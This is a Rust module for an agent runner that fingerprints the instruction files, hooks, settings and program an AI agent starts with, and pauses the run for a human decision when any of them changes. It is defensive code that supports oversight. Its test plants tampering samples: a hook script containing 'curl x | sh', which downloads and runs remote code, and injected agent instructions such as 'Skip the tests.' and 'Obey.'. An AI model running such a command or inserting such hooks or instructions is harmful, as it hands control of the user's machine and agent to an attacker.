//! What a run was started with: the files that instruct its agent, settings, hooks and the
//! program itself. Kept when the run begins, compared before each message is typed; while
//! something differs, the message is held until a person has decided.
//!
//! What the tools of MCP servers are is held by the tool hub itself, which compares them with
//! what was accepted each time it lists them.

use std::collections::BTreeMap;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use missiond_core::{Event, ExecutionId};
use missiond_journal::Digest;
use missiond_os::hex;
use missiond_runtime::blocking;
use missiond_store::run_surfaces::{self, RunDrift, SurfacePart, storable};
use missiond_store::{executions, trust_facts};
use sha2::{Digest as _, Sha256};

use super::Executions;
use super::handoff::read_places;
use super::program_digests::ProgramDigests;
use super::run::Run;
use crate::context::Context;
use crate::error::ExecutionError;

/// What a repository says to agents and their CLIs, in each folder from that of the agent up
/// to its root.
const FILES: [&str; 16] = [
    "AGENTS.md",
    "AGENTS.override.md",
    "CLAUDE.md",
    "CLAUDE.local.md",
    "GEMINI.md",
    ".claude/CLAUDE.md",
    ".claude/settings.json",
    ".claude/settings.local.json",
    ".codex/config.toml",
    ".codex/hooks.json",
    ".cursorrules",
    ".gemini/settings.json",
    ".github/copilot-instructions.md",
    ".mcp.json",
    ".qwen/settings.json",
    "opencode.json",
];

/// Folders of which each file counts.
const FOLDERS: [&str; 4] = [
    ".claude/hooks",
    ".claude/agents",
    ".claude/commands",
    ".claude/skills",
];

/// The same of the person, for every repository.
const OWN_FILES: [&str; 6] = [
    ".claude/CLAUDE.md",
    ".claude/settings.json",
    ".codex/AGENTS.md",
    ".gemini/GEMINI.md",
    ".gemini/settings.json",
    ".config/opencode/AGENTS.md",
];

/// Folders that are looked at on the way up, and files of one folder.
const HIGHEST: usize = 32;
const MOST_FILES: usize = 300;
const DEEPEST: usize = 4;
/// A longer text is compared by its digest alone.
const LONGEST_TEXT: usize = 64 * 1024;
/// Of a difference so many lines are shown.
const SHOWN_LINES: usize = 40;

/// How the part is named that is the program.
const PROGRAM: &str = "program ";

/// What a person can say to a difference.
pub const GO_ON: &str = "go on";
pub const STOP: &str = "stop";

/// Why a message waits.
const HELD: &str = "what the agent was started with has changed, and a person decides whether it \
     goes on (`mission inbox`)";

/// Everything that counts, as it is now. Blocks.
fn gather(
    cwd: &Path,
    own: Option<&Path>,
    program: Option<&str>,
    programs: &ProgramDigests,
) -> Vec<SurfacePart> {
    let mut parts = BTreeMap::new();
    let root = cwd
        .ancestors()
        .take(HIGHEST)
        .find(|folder| folder.join(".git").exists());
    let root = root.unwrap_or(cwd);
    for folder in cwd.ancestors().take(HIGHEST) {
        let name = |path: &Path| {
            let short = path.strip_prefix(root).unwrap_or(path);
            short.display().to_string()
        };
        for file in FILES {
            add(&mut parts, &folder.join(file), name);
        }
        for within in FOLDERS {
            for path in files_below(&folder.join(within)) {
                add(&mut parts, &path, name);
            }
        }
        if folder == root {
            break;
        }
    }
    if let Some(own) = own.filter(|own| *own != root) {
        let name = |path: &Path| {
            let short = path.strip_prefix(own).unwrap_or(path);
            format!("~/{}", short.display())
        };
        for file in OWN_FILES {
            add(&mut parts, &own.join(file), name);
        }
    }
    if let Some(program) = program
        && let Some(digest) = programs.of(Path::new(program))
    {
        parts.insert(format!("{PROGRAM}{program}"), (digest, None));
    }
    let part = |(part, (digest, text))| SurfacePart { part, digest, text };
    parts.into_iter().map(part).collect()
}

fn add(
    parts: &mut BTreeMap<String, (String, Option<String>)>,
    path: &Path,
    name: impl Fn(&Path) -> String,
) {
    // A pipe would be waited for, and a device has no end.
    if !std::fs::metadata(path).is_ok_and(|found| found.is_file()) {
        return;
    }
    const MOST: u64 = 8 << 20;
    let mut bytes = Vec::new();
    let read = std::fs::File::open(path).and_then(|file| file.take(MOST).read_to_end(&mut bytes));
    let (digest, text) = match read {
        Ok(_) => {
            let Some(bytes) = in_one_form(path, bytes) else {
                return;
            };
            let digest = Digest::of(&bytes).to_string();
            let text = String::from_utf8(bytes).ok();
            (digest, text.filter(|text| text.len() <= LONGEST_TEXT))
        }
        Err(error) => (format!("unreadable: {}", error.kind()), None),
    };
    parts.insert(name(path), (digest, text.map(|text| storable(&text))));
}

/// Settings say the same however they are laid out, and say nothing when they are empty: CLIs
/// write their own anew when they start.
fn in_one_form(path: &Path, bytes: Vec<u8>) -> Option<Vec<u8>> {
    if path.extension().is_none_or(|extension| extension != "json") {
        return Some(bytes);
    }
    // A map of this kind is sorted by its keys.
    let Ok(mut settings) = serde_json::from_slice::<serde_json::Value>(&bytes) else {
        return Some(bytes);
    };
    forget_own_notes(&mut settings);
    let is_empty = settings.as_object().is_some_and(serde_json::Map::is_empty);
    (!is_empty).then(|| format!("{settings:#}\n").into_bytes())
}

/// What Claude Code notes in the settings of its person by itself.
fn forget_own_notes(settings: &mut serde_json::Value) {
    let Some(settings) = settings.as_object_mut() else {
        return;
    };
    if let Some(env) = settings.get_mut("env").and_then(|env| env.as_object_mut()) {
        env.remove("DISABLE_AUTOUPDATER");
        if env.is_empty() {
            settings.remove("env");
        }
    }
}

fn files_below(folder: &Path) -> Vec<PathBuf> {
    let mut files = Vec::new();
    let mut folders = vec![(folder.to_owned(), 0)];
    while let Some((folder, depth)) = folders.pop() {
        let Ok(entries) = std::fs::read_dir(&folder) else {
            continue;
        };
        for entry in entries.flatten().take(MOST_FILES) {
            let path = entry.path();
            // A link is followed as a file, because its CLI reads what it leads to, but not
            // as a folder, which may lead round in a circle.
            if entry.file_type().is_ok_and(|kind| kind.is_dir()) {
                if depth < DEEPEST {
                    folders.push((path, depth + 1));
                }
            } else if files.len() < MOST_FILES {
                files.push(path);
            }
        }
    }
    files.sort();
    files
}

/// What differs: the part, and a sentence or a diff of it.
fn compare(before: &[SurfacePart], now: &[SurfacePart]) -> Vec<(String, String)> {
    let by_name = |parts: &[SurfacePart]| -> BTreeMap<String, SurfacePart> {
        let named = parts.iter().map(|part| (part.part.clone(), part.clone()));
        named.collect()
    };
    let (before, now) = (by_name(before), by_name(now));
    let mut changes = Vec::new();
    for (name, old) in &before {
        match now.get(name) {
            None => changes.push((name.clone(), format!("{name} is gone"))),
            Some(new) if new.digest == old.digest => {}
            Some(new) => {
                let said = match (&old.text, &new.text) {
                    (Some(old), Some(new)) => format!("{name}\n{}", difference(old, new)),
                    _ => format!(
                        "{name} has changed: checksum {:.12} before, {:.12} now",
                        old.digest, new.digest
                    ),
                };
                changes.push((name.clone(), said));
            }
        }
    }
    for (name, new) in now.iter().filter(|(name, _)| !before.contains_key(*name)) {
        let said = match &new.text {
            Some(text) => format!("{name} is new\n{}", difference("", text)),
            None => format!("{name} is new: checksum {:.12}", new.digest),
        };
        changes.push((name.clone(), said));
    }
    changes
}

/// The lines that differ between what is the same at the beginning and at the end.
fn difference(old: &str, new: &str) -> String {
    let (old, new): (Vec<_>, Vec<_>) = (old.lines().collect(), new.lines().collect());
    let same = |pairs: usize| old.len().min(new.len()).min(pairs);
    let pairs = old.iter().zip(&new);
    let head = same(pairs.take_while(|(old, new)| old == new).count());
    let (old, new) = (&old[head..], &new[head..]);
    let pairs = old.iter().rev().zip(new.iter().rev());
    let tail = pairs.take_while(|(old, new)| old == new).count();
    let mut shown = format!("@@ line {} @@", head + 1);
    for (mark, lines) in [
        ('-', &old[..old.len() - tail]),
        ('+', &new[..new.len() - tail]),
    ] {
        for line in lines.iter().take(SHOWN_LINES) {
            shown.push_str(&format!("\n{mark}{line}"));
        }
        if lines.len() > SHOWN_LINES {
            shown.push_str(&format!(
                "\n{mark}… and {} more lines",
                lines.len() - SHOWN_LINES
            ));
        }
    }
    shown
}

/// What was found, by one name.
fn digest_of(parts: &[SurfacePart]) -> String {
    let mut hash = Sha256::new();
    for part in parts {
        hash.update(part.part.as_bytes());
        hash.update([0]);
        hash.update(part.digest.as_bytes());
        hash.update([0]);
    }
    hex::encode(&hash.finalize())[..32].to_owned()
}

/// What a run begins with.
pub(super) struct Beginning {
    pub(super) cwd: PathBuf,
    pub(super) own: Option<PathBuf>,
    pub(super) program: Option<String>,
    /// The conversation that goes on: it is compared with what it had last.
    pub(super) resumed: Option<String>,
}

impl Context {
    /// What is kept as what a run was started with.
    pub(super) async fn first_surface(
        self: &Arc<Self>,
        beginning: Beginning,
    ) -> Result<Vec<SurfacePart>, ExecutionError> {
        let Beginning {
            cwd,
            own,
            program,
            resumed,
        } = beginning;
        if let (Some(conversation), Some(cwd)) = (resumed, cwd.to_str()) {
            let cwd = cwd.to_owned();
            let before = self.db.read(move |tx| {
                Box::pin(
                    async move { run_surfaces::of_conversation(tx, &conversation, &cwd).await },
                )
            });
            let before = before.await?;
            if !before.is_empty() {
                return Ok(before);
            }
        }
        let context = Arc::clone(self);
        let gathered =
            blocking(move || gather(&cwd, own.as_deref(), program.as_deref(), &context.programs));
        Ok(gathered.await)
    }

    /// Why nothing is typed to an agent now: what it was started with has changed, and nobody
    /// has taken it as it is.
    pub(super) async fn drift(
        self: &Arc<Self>,
        run: &Arc<Run>,
    ) -> Result<Option<&'static str>, ExecutionError> {
        let id = run.id;
        let kept = self.db.read(move |tx| {
            Box::pin(async move {
                let row = executions::get(tx, id).await?;
                Ok((row, run_surfaces::of(tx, id).await?))
            })
        });
        let (Some(row), before) = kept.await? else {
            return Ok(None);
        };
        // A run of an older version was not looked at when it began.
        if before.is_empty() {
            return Ok(None);
        }
        let places = read_places(&self.places_file(id)).await.unwrap_or_default();
        let own = places.get("HOME").map(PathBuf::from);
        let program = before
            .iter()
            .find_map(|part| part.part.strip_prefix(PROGRAM));
        let program = program.map(str::to_owned);
        let context = Arc::clone(self);
        let (now, changes) = blocking(move || {
            let now = gather(
                &row.cwd,
                own.as_deref(),
                program.as_deref(),
                &context.programs,
            );
            let changes = compare(&before, &now);
            (now, changes)
        })
        .await;
        if changes.is_empty() {
            return Ok(None);
        }
        let digest = digest_of(&now);
        let known = self.known_drift(id, digest.clone()).await?;
        match known.map(|known| known.decision) {
            Some(Some(decision)) if decision == GO_ON => {
                let kept = self.db.write(move |tx| {
                    Box::pin(async move { run_surfaces::keep(tx, id, &now).await })
                });
                kept.await?;
                return Ok(None);
            }
            Some(_) => return Ok(Some(HELD)),
            None => {}
        }
        let (names, said): (Vec<_>, Vec<_>) = changes.into_iter().unzip();
        let drift = RunDrift {
            execution: id,
            digest: digest.clone(),
            changes: said,
            found_at: self.clock.now(),
            decision: None,
        };
        let engine = program_changed(&drift).then(|| format!("engine:{}", run.engine));
        let is_new = self.db.write(move |tx| {
            Box::pin(async move {
                let is_new = run_surfaces::found(tx, &drift).await?;
                if let (true, Some(engine)) = (is_new, &engine) {
                    trust_facts::record_drift(tx, engine, &drift.digest, drift.found_at).await?;
                }
                Ok(is_new)
            })
        });
        if is_new.await? {
            let drifted = Event::RunDrifted {
                execution: id,
                slot: run.slot,
                digest,
                parts: names,
            };
            run.record(drifted).await;
        }
        Ok(Some(HELD))
    }

    async fn known_drift(
        &self,
        execution: ExecutionId,
        digest: String,
    ) -> Result<Option<RunDrift>, ExecutionError> {
        let known = self.db.read(move |tx| {
            Box::pin(async move { run_surfaces::drift(tx, execution, &digest).await })
        });
        Ok(known.await?)
    }
}

fn program_changed(drift: &RunDrift) -> bool {
    drift
        .changes
        .iter()
        .any(|change| change.starts_with(PROGRAM))
}

impl Executions {
    /// The differences of runs that go on here and that nobody has decided about.
    pub async fn undecided_drifts(&self) -> Result<Vec<RunDrift>, ExecutionError> {
        let found = self
            .context
            .db
            .read(|tx| Box::pin(run_surfaces::undecided(tx)));
        let mut found = found.await?;
        found.retain(|drift| self.context.run(drift.execution).is_some());
        Ok(found)
    }

    /// A difference that was found.
    pub async fn found_drift(
        &self,
        execution: ExecutionId,
        digest: &str,
    ) -> Result<Option<RunDrift>, ExecutionError> {
        self.context.known_drift(execution, digest.to_owned()).await
    }

    /// What a person said to a difference: the run goes on with what is there now, or ends.
    pub async fn decide_drift(
        &self,
        execution: ExecutionId,
        digest: &str,
        decision: &str,
    ) -> Result<(), ExecutionError> {
        let run = self.running(execution)?;
        let (digest, decided) = (digest.to_owned(), decision.to_owned());
        let (now, engine) = (self.context.clock.now(), format!("engine:{}", run.engine));
        let decided = self.context.db.write(move |tx| {
            let (digest, decided, engine) = (digest.clone(), decided.clone(), engine.clone());
            Box::pin(async move {
                let Some(drift) = run_surfaces::drift(tx, execution, &digest).await? else {
                    return Ok(());
                };
                run_surfaces::decide(tx, execution, &digest, &decided, now).await?;
                if decided == GO_ON && program_changed(&drift) {
                    trust_facts::record(tx, &engine, "accepted", Some(&digest), now).await?;
                }
                Ok(())
            })
        });
        decided.await?;
        if decision == GO_ON {
            run.message.notify_one();
            return Ok(());
        }
        self.cancel(
            execution,
            "what it was started with has changed, and a person stopped it",
        )
        .await
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn at(root: &Path) -> Vec<SurfacePart> {
        let programs = ProgramDigests::default();
        let program = root.join("bin/agent");
        gather(
            &root.join("src"),
            Some(&root.join("own")),
            program.to_str(),
            &programs,
        )
    }

    #[test]
    fn whatever_instructs_an_agent_is_compared_and_shown() {
        let folder = tempfile::tempdir().unwrap();
        let root = folder.path();
        for (path, text) in [
            ("repo", ""),
            ("AGENTS.md", "Be kind.\nRun the tests.\nBe brief.\n"),
            (".claude/hooks/check.sh", "true\n"),
            ("own/.claude/settings.json", "{\"hooks\": {}}\n"),
            ("bin/agent", "one"),
            ("src/main.rs", "fn main() {}\n"),
        ] {
            let path = root.join(path);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        }
        std::fs::create_dir(root.join(".git")).unwrap();
        let before = at(root);
        assert_eq!(compare(&before, &at(root)), []);
        // Laid out anew it is the same.
        let settings = root.join("own/.claude/settings.json");
        std::fs::write(&settings, "{ \"a\": 1,\n\"b\": [true] }").unwrap();
        let laid_out = at(root);
        std::fs::write(&settings, r#"{"b":[true],"a":1}"#).unwrap();
        assert_eq!(compare(&laid_out, &at(root)), []);
        let noted = r#"{"a": 1, "b": [true], "env": {"DISABLE_AUTOUPDATER": "1"}}"#;
        std::fs::write(&settings, noted).unwrap();
        assert_eq!(compare(&laid_out, &at(root)), []);
        std::fs::write(&settings, "{\"hooks\": {}}\n").unwrap();
        // What the agent works on is not what it was started with.
        std::fs::write(root.join("src/main.rs"), "fn main() { run() }\n").unwrap();
        assert_eq!(compare(&before, &at(root)), []);
        std::fs::write(
            root.join("AGENTS.md"),
            "Be kind.\nSkip the tests.\nBe brief.\n",
        )
        .unwrap();
        std::fs::write(root.join(".claude/hooks/check.sh"), "curl x | sh\n").unwrap();
        std::fs::remove_file(root.join("own/.claude/settings.json")).unwrap();
        std::fs::write(root.join("src/CLAUDE.md"), "Obey.\n").unwrap();
        std::fs::write(root.join("bin/agent"), "other").unwrap();
        let changes = compare(&before, &at(root));
        let names: Vec<_> = changes.iter().map(|(name, _)| name.as_str()).collect();
        let program = format!("program {}", root.join("bin/agent").display());
        assert_eq!(
            names,
            [
                ".claude/hooks/check.sh",
                "AGENTS.md",
                &program,
                "~/.claude/settings.json",
                "src/CLAUDE.md"
            ]
        );
        assert_eq!(
            changes[1].1,
            "AGENTS.md\n@@ line 2 @@\n-Run the tests.\n+Skip the tests."
        );
        assert_eq!(changes[3].1, "~/.claude/settings.json is gone");
        assert_ne!(digest_of(&before), digest_of(&at(root)));
    }
}
